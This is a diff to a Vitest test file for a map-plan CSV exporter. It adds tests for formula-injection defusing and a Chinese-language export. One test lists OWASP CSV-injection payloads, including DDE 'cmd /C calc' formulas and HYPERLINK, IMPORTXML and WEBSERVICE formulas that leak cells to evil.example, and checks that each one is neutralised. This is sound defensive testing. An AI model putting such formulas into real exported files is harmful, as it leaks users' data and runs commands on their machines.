@@ -1,5 +1,5 @@
 import { describe, it, expect } from 'vitest';
-import { BOM, CSV_COLUMNS, csvCell, csvDocument, exportFileName, representativePoint, toCsv, toGeoJSON } from '../../../src/lib/plan/exporter.ts';
+import { BOM, CSV_COLUMNS, CSV_HEADERS, csvCell, csvDocument, exportFileName, representativePoint, toCsv, toGeoJSON } from '../../../src/lib/plan/exporter.ts';
 import { importText, parseCsvRecords } from '../../../src/lib/plan/importer.ts';
 import { allPlanFeatures } from '../helpers.ts';
 import { booleanPointInPolygon } from '@turf/turf';
@@ -23,11 +23,44 @@ describe('CSV cells', () => {
   });
   it('defuses spreadsheet formulas in text but not numbers', () => {
     expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
-    expect(csvCell('+1')).toBe("'+1");
+    expect(csvCell('+1')).toBe('+1');
+    expect(csvCell('+1x')).toBe("'+1x");
     expect(csvCell('@cmd')).toBe("'@cmd");
     expect(csvCell('-x')).toBe("'-x");
     expect(csvCell('-12.5')).toBe('-12.5');
     expect(csvCell(-3)).toBe('-3');
+  });
+  it('defuses the OWASP CSV-injection payloads, including those starting with - and a digit', () => {
+    // https://owasp.org/www-community/attacks/CSV_Injection and its payload list
+    const OWASP = [
+      '=1+2+3',
+      '=cmd|\' /C calc\'!A0',
+      '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: click me")',
+      '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
+      '=WEBSERVICE("http://evil.example/")',
+      '+1+cmd|\' /C calc\'!A0',
+      '-1+cmd|\' /C calc\'!A0',
+      '-0+HYPERLINK("http://evil.example")',
+      '-.5+cmd|\' /C calc\'!A0',
+      '-2+3+cmd|\' /C calc\'!A0',
+      '@SUM(1+9)*cmd|\' /C calc\'!A0',
+      '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      '\t=1+2',
+      '\r=1+2',
+      '=DDE("cmd";"/C calc";"!A0")A0',
+      "=10+20+cmd|' /C calc'!A0",
+      '+HYPERLINK("http://evil.example")',
+    ];
+    for (const p of OWASP) {
+      const out = csvCell(p);
+      const inner = out.startsWith('"') ? out.slice(1, -1).replace(/""/g, '"') : out;
+      expect(inner, p).toBe(`'${p}`);
+    }
+    // numbers stay numbers, as text or as numbers
+    for (const n of ['-1', '-0.5', '-.5', '+3', '1e5', '-2.5E-3', '42']) expect(csvCell(n), n).toBe(n);
+    expect(csvCell(-0.5)).toBe('-0.5');
+    // harmless text that merely contains those characters later is untouched
+    expect(csvCell('a=b')).toBe('a=b');
   });
   it('a document starts with a BOM and uses CRLF', () => {
     const d = csvDocument([['a', 'b'], ['1', '2']]);
@@ -46,8 +79,20 @@ describe('toCsv', () => {
     expect(csv.charCodeAt(0)).toBe(0xfeff);
     const parsed = parseCsvRecords(csv.slice(1));
     if (!('records' in parsed)) throw new Error('unparseable');
-    expect(parsed.records[0].cells).toEqual([...CSV_COLUMNS]);
-    expect(parsed.records[1].cells).toEqual(['x', '名称,带逗号', 'He said "go"', 'culture', '', '八(一)', 'planned', 'estimated', '120.581235', '30', '第一行\n第二行']);
+    expect(parsed.records[0].cells).toEqual(CSV_COLUMNS.map((c) => CSV_HEADERS.en[c]));
+    expect(parsed.records[1].cells).toEqual(['x', '名称,带逗号', 'He said "go"', 'culture', '', '八(一)', 'planned', 'estimated', '120.58123457', '30', '第一行\n第二行']);
+  });
+  it('in Chinese: 中文列名, translated values, no Markdown markers', () => {
+    const label = (c: string, v: string | null) => (c === 'zone' ? ({ north: '北部' } as Record<string, string>)[v ?? ''] ?? '区外' : c === 'status' ? '规划中' : c === 'category' ? '文化' : '推估');
+    const csv = toCsv([{ ...tricky, properties: { ...tricky.properties, zone: 'north', excerpt_zh: '**北部：**建设' } }], { lang: 'zh', label });
+    const parsed = parseCsvRecords(csv.slice(1));
+    if (!('records' in parsed)) throw new Error('unparseable');
+    expect(parsed.records[0].cells).toEqual(['编号', '名称', '英文名称', '类别', '功能区', '规划条目', '状态', '位置精度', '经度', '纬度', '规划原文摘录']);
+    expect(parsed.records[1].cells.slice(3, 8)).toEqual(['文化', '北部', '八(一)', '规划中', '推估']);
+    expect(parsed.records[1].cells[10]).toBe('北部：建设');
+    expect(csv).not.toContain('**');
+    // a Chinese export re-imports (经度/纬度 are recognised)
+    expect(importText(csv, { name: 'x.csv' }).ok).toBe(true);
     expect(parsed.records).toHaveLength(2);
   });
   it('uses a point on a polygon, not a centroid outside it', () => {
